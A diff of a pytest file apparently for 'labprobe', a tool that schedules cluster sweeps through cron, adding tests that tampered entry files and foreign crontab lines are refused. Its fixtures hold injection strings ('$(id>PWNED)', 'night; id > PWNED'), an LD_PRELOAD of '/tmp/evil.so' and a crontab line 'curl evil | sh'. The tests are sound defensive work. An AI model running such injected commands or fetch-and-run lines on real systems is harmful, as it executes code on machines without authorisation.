@@ -67,7 +67,7 @@ def schedule(capsys, *argv: str) -> tuple[int, str, str]:
 
 def block(tab: Path) -> list[str]:
     """labprobe's lines in the crontab file."""
-    return [x for x in sched.split(tab.read_text()).lines if x.strip()]
+    return [x for b in sched.split(tab.read_text()).blocks() for x in b if x.strip()]
 
 
 def entries(tab: Path) -> list[sched.Entry]:
@@ -132,7 +132,14 @@ def test_the_schedule_section_gives_the_defaults(tmp_path, capsys):
     assert code == 0, err
     (entry,) = entries(tab)
     assert entry.cron == "15 3 * * *" and entry.plan == "other" and entry.log == str(tmp_path / "logs" / "night.log")
-    assert entry.argv[1:] == ["sweep", "--cluster", str(cluster.resolve()), "--plan", "other", "--report"] + [
+    assert sched.sweep_argv(entry)[1:] == [
+        "sweep",
+        "--cluster",
+        str(cluster.resolve()),
+        "--plan",
+        "other",
+        "--report",
+    ] + [
         "--deadline",
         "06:45",
     ]
@@ -229,7 +236,7 @@ def test_show_flags_lines_in_the_block_labprobe_did_not_write(lab, capsys):
     code, out, _ = schedule(capsys, "show", "--crontab-file", str(tab))
     flagged = [x for x in out.splitlines() if x.startswith("NOT WRITTEN BY LABPROBE")]
     assert code == 1 and len(flagged) == 2, out
-    assert "differs from what its entry file renders" in flagged[0] and "no entry file" in flagged[1]
+    assert "differs from what its entry file renders" in flagged[0] and "names no entry id" in flagged[1]
     code, out, _ = schedule(capsys, "remove", "--all", "--crontab-file", str(tab))
     assert code == 0 and "removed 2 entries" in out and tab.read_text() == UNRELATED
 
@@ -286,10 +293,9 @@ def test_the_entry_carries_this_environment_and_never_a_token(lab, capsys, monke
     install(capsys, cluster, tab, "--plan", "night", "--cron", "@daily")
     (entry,) = entries(tab)
     script = Path(sys.executable).parent / "labprobe"
-    assert entry.argv == [str(script), "sweep", "--cluster", str(cluster.resolve()), "--plan", "night", "--report"]
-    assert entry.cwd == str(cluster.parent.resolve())
-    assert entry.env["PATH"] == os.environ["PATH"] and entry.env["RAY_AUTH_MODE"] == "token"
-    assert entry.env["RAY_AUTH_TOKEN_PATH"] == str(token_path)
+    argv = sched.sweep_argv(entry)
+    assert argv == [str(script), "sweep", "--cluster", str(cluster.resolve()), "--plan", "night", "--report"]
+    assert entry.ray_auth_mode == "token" and entry.ray_auth_token_path == str(token_path)
     files = [tab, *entries_folder.iterdir()]
     assert not any("s3cret" in f.read_text() for f in files)
 
@@ -300,7 +306,7 @@ def test_the_entry_leaves_out_auth_settings_not_set_here(lab, capsys, monkeypatc
     monkeypatch.delenv("RAY_AUTH_TOKEN_PATH", raising=False)
     install(capsys, cluster, tab, "--plan", "night", "--cron", "@daily")
     (entry,) = entries(tab)
-    assert not any(k.startswith("RAY_") for k in entry.env)
+    assert entry.ray_auth_mode is None and entry.ray_auth_token_path is None
 
 
 def test_a_crontab_that_cannot_be_read_is_never_taken_for_an_empty_one(lab, capsys, tmp_path, monkeypatch):
@@ -346,3 +352,123 @@ def test_a_percent_in_a_path_is_refused_before_it_reaches_cron(lab, capsys, monk
     code, _, err = install(capsys, cluster, tab, "--plan", "night", "--cron", "0 1 * * *")
     assert code == 2 and err.count("\n") == 1 and "a '%' in a path breaks a crontab line" in err
     assert tab.read_text() == before
+
+
+# -- the schedule runs data, never commands (issue 36) -------------------------------------------
+def installed(capsys, lab) -> tuple[Path, Path, Path]:
+    """(crontab, entries folder, the entry file) of plan night, installed."""
+    cluster, tab = lab
+    code, _, err = install(capsys, cluster, tab, "--plan", "night", "--cron", "0 1 * * *")
+    assert code == 0, err
+    folder = Path(os.environ["LABPROBE_SCHEDULE_DIR"])
+    (path,) = folder.glob("*.json")
+    return tab, folder, path
+
+
+def refused_by_run_and_show(capsys, tab: Path, path: Path, reason: str, cwd: Path) -> None:
+    """`run` starts nothing (exit 2, one line naming the file and why); `show` flags it (exit 1)."""
+    code, out, err = schedule(capsys, "run", path.stem)
+    assert code == 2 and out == "" and len(err.strip().splitlines()) == 1, err
+    assert str(path.parent) in err and reason in err, err
+    code, out, _ = schedule(capsys, "show", "--crontab-file", str(tab))
+    assert code == 1 and "NOT WRITTEN BY LABPROBE" in out and reason in out and str(path.parent) in out, out
+    assert no_pwned(cwd, path.parent) == []
+
+
+def tamper(path: Path, **changes) -> None:
+    data = {**json.loads(path.read_text()), **changes}
+    os.chmod(path, 0o600)
+    path.write_text(json.dumps(data))
+
+
+@pytest.mark.parametrize(
+    ("changes", "reason"),
+    [
+        ({"argv": ["/bin/sh", "-c", "id > PWNED"]}, "unknown key 'argv' refused"),
+        ({"env": {"LD_PRELOAD": "/tmp/evil.so"}}, "unknown key 'env' refused"),
+        ({"cwd": "/"}, "unknown key 'cwd' refused"),
+        ({"plan": "night; id > PWNED"}, "refused: plan"),
+        ({"log": "relative.log"}, "log: expected an absolute path"),
+        ({"deadline": "$(id>PWNED)"}, "deadline"),
+        ({"ray_auth_mode": "x;id"}, "ray_auth_mode: expected one of"),
+        ({"cluster": "/tmp/other.yaml"}, "its id does not match"),
+    ],
+)
+def test_an_entry_holding_anything_but_labprobes_parameters_is_refused(lab, capsys, tmp_path, changes, reason):
+    tab, _, path = installed(capsys, lab)
+    tamper(path, **changes)
+    refused_by_run_and_show(capsys, tab, path, reason, tmp_path)
+
+
+@pytest.mark.parametrize(
+    ("unsafe", "reason"),
+    [
+        ("file 0666", "writable by group or others (mode 0666)"),
+        ("file 0620", "writable by group or others (mode 0620)"),
+        ("folder 0777", "writable by group or others (mode 0777)"),
+        ("file link", "a symbolic link"),
+        ("folder link", "a symbolic link or not a folder"),
+        ("file nobody", "owned by uid 65534, not by you"),
+        ("folder nobody", "owned by uid 65534, not by you"),
+    ],
+)
+def test_an_entry_or_folder_others_could_write_is_refused(lab, capsys, tmp_path, unsafe, reason):
+    """StrictModes: an entry in a world-writable folder, owned by nobody, mode 0666, ran as its
+    reader and `show` said exit 0."""
+    tab, folder, path = installed(capsys, lab)
+    assert (os.stat(folder).st_mode & 0o777, os.stat(path).st_mode & 0o777) == (0o700, 0o600)
+    which, how = unsafe.split()
+    target = folder if which == "folder" else path
+    if how == "nobody":
+        if os.geteuid() != 0:
+            pytest.skip("giving a file to another user needs root")
+        os.chown(target, 65534, 65534)
+    elif how == "link":
+        real = tmp_path / f"real-{which}"
+        target.rename(real)
+        target.symlink_to(real)
+        if which == "folder":  # the crontab names the folder itself: a link there is refused too
+            os.environ["LABPROBE_SCHEDULE_DIR"] = str(folder)
+    else:
+        os.chmod(target, int(how, 8))
+    refused_by_run_and_show(capsys, tab, path, reason, tmp_path)
+
+
+def test_install_refuses_an_entries_folder_others_could_write(lab, capsys, entries_folder):
+    cluster, tab = lab
+    entries_folder.mkdir()
+    os.chmod(entries_folder, 0o777)
+    code, _, err = install(capsys, cluster, tab, "--plan", "night", "--cron", "0 1 * * *")
+    assert code == 2 and "writable by group or others (mode 0777)" in err and str(entries_folder) in err
+    assert list(entries_folder.iterdir()) == [] and tab.read_text() == UNRELATED
+
+
+def test_every_labprobe_block_is_checked_and_remove_all_removes_every_one(lab, capsys):
+    tab, _, _ = installed(capsys, lab)
+    foreign = f"{sched.BEGIN}\n* * * * * curl evil | sh\n{sched.END}\n"
+    tab.write_text(tab.read_text() + foreign)
+    code, out, _ = schedule(capsys, "show", "--crontab-file", str(tab))
+    assert code == 1 and "holds 2 labprobe blocks" in out and "curl evil" in out, out
+    code, out, _ = schedule(capsys, "remove", "--all", "--crontab-file", str(tab))
+    assert code == 0 and "removed 2 entries" in out and tab.read_text() == UNRELATED
+    # a plan's own removal keeps a foreign line of another block, and show still flags it
+    installed(capsys, lab)
+    tab.write_text(tab.read_text() + foreign)
+    cluster, _ = lab
+    code, out, _ = schedule(capsys, "remove", "--cluster", str(cluster), "--plan", "night", "--crontab-file", str(tab))
+    assert code == 0 and "removed 1 entry" in out and "curl evil" in tab.read_text()
+    assert schedule(capsys, "show", "--crontab-file", str(tab))[0] == 1
+
+
+def test_show_finds_the_entry_in_the_folder_its_line_names(lab, capsys, tmp_path, monkeypatch):
+    """Issue 40: installed with --entries, `show` without it flagged labprobe's own line (exit 1)."""
+    cluster, tab = lab
+    elsewhere = tmp_path / "my-entries"
+    code, _, err = install(capsys, cluster, tab, "--plan", "night", "--cron", "0 1 * * *", "--entries", str(elsewhere))
+    assert code == 0, err
+    monkeypatch.delenv("LABPROBE_SCHEDULE_DIR")
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    code, out, _ = schedule(capsys, "show", "--crontab-file", str(tab))
+    assert code == 0 and "NOT WRITTEN" not in out and "plan night" in out, out
+    code, out, _ = schedule(capsys, "remove", "--all", "--crontab-file", str(tab))
+    assert code == 0 and list(elsewhere.iterdir()) == [] and tab.read_text() == UNRELATED
